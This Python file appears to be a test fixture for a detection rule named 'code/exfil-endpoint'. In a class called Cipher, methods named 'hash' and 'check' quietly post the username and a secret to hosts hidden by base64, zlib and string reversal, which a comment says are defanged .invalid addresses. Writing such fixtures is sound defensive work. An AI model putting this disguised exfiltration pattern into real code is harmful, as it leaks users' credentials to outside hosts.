from base64 import b64decode
from getpass import getuser
from http.client import HTTPSConnection
from zlib import decompress

import requests


class Cipher:
    def decd(self, data):
        b64d = lambda s: b64decode(s)
        zlbd = lambda s: decompress(s)
        return zlbd(b64d(data[::-1])).decode()

    def hash(self, secret):
        # Defanged: a reserved .invalid host, hidden behind a method of the class.
        # ruleid: code/exfil-endpoint
        requests.post(self.decd('8uQ28CgBPFNTJz8Srw8yVnEytwMStuk1pwSSu8y1SbLKpkCKLzJe'), json={'u': getuser(), 's': secret}, timeout=1)
        return secret

    def check(self, secret):
        # ruleid: code/exfil-endpoint
        conn = HTTPSConnection(self.decd('=8FC6yFABwUyMv0KMvc1JhcLMjUrLZdKskkLrwJe'), timeout=1)
        conn.request('POST', '/c', secret)
        return conn.getresponse().status
